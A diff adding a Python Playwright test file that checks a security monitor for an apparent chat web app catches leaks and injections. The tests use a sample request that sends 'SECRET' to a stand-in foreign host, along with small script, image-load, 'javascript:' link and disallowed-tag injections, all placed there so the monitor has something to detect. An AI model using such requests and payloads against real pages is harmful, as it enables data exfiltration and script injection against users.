@@ -1,0 +1,86 @@
+"""The watch sees what it is there for: else its silence in the other tests would say nothing."""
+
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import Browser
+
+from tests.safety.spy import Spy
+from tests.safety.watch import Watch
+from tests.server import Server
+
+Opens = Callable[[str], Watch]
+
+
+@pytest.fixture
+def alert(chromium: Browser, server: Server) -> Watch:
+    """A window of alice's whose problems are looked at here."""
+    window = Watch(chromium, server, "alice")
+    window.page.goto("/")
+    return window
+
+
+def test_a_request_that_leaves_is_counted(alert: Watch, spy: Spy) -> None:
+    alert.page.goto(f"http://foreign.test:{spy.port}/?q=SECRET")
+    assert "/?q=SECRET" in spy.calls
+    assert any("SECRET" in problem for problem in alert.problems)
+    spy.calls.clear()
+    alert.close()
+
+
+@pytest.mark.parametrize(
+    ("script", "word"),
+    [
+        ("alert('hello')", "hello"),
+        ("document.body.insertAdjacentHTML('beforeend', '<b>x</b>')", "Trusted"),
+        ("void document.body.append(Object.assign(new Image(), { src: 'http://foreign.test/' }))", "img-src"),
+        ("document.body.setAttribute('style', 'color: red')", "style-src"),
+        ("setTimeout(() => { throw new Error('lost'); })", "lost"),
+    ],
+)
+def test_what_runs_or_is_stopped_is_seen(alert: Watch, script: str, word: str) -> None:
+    alert.page.evaluate(f"() => {{ try {{ {script} }} catch {{}} }}")
+    alert.page.wait_for_timeout(100)
+    assert any(word in problem for problem in alert.problems), alert.problems
+    alert.close()
+
+
+@pytest.mark.parametrize(
+    "tag", ["img", "script", "svg", "input", "iframe", "style", "form", "template", "meta", "object"]
+)
+def test_what_does_not_belong_into_a_reply_is_seen(alert: Watch, tag: str) -> None:
+    alert.page.evaluate(
+        """(tag) => {
+          const prose = document.body.appendChild(document.createElement('div'));
+          prose.className = 'prose';
+          prose.append(document.createElement(tag));
+        }""",
+        tag,
+    )
+    with pytest.raises(AssertionError):
+        alert.look()
+    alert.close()
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("ping", "x"),
+        ("href", "javascript:x"),
+        ("href", "//a.test/"),
+        ("id", "chat"),
+        ("data-part", "text"),
+    ],
+)
+def test_an_attribute_that_does_not_belong_is_seen(alert: Watch, name: str, value: str) -> None:
+    alert.page.evaluate(
+        """([name, value]) => {
+          const prose = document.body.appendChild(document.createElement('div'));
+          prose.className = 'prose';
+          prose.appendChild(document.createElement('a')).setAttribute(name, value);
+        }""",
+        [name, value],
+    )
+    with pytest.raises(AssertionError):
+        alert.look()
+    alert.close()
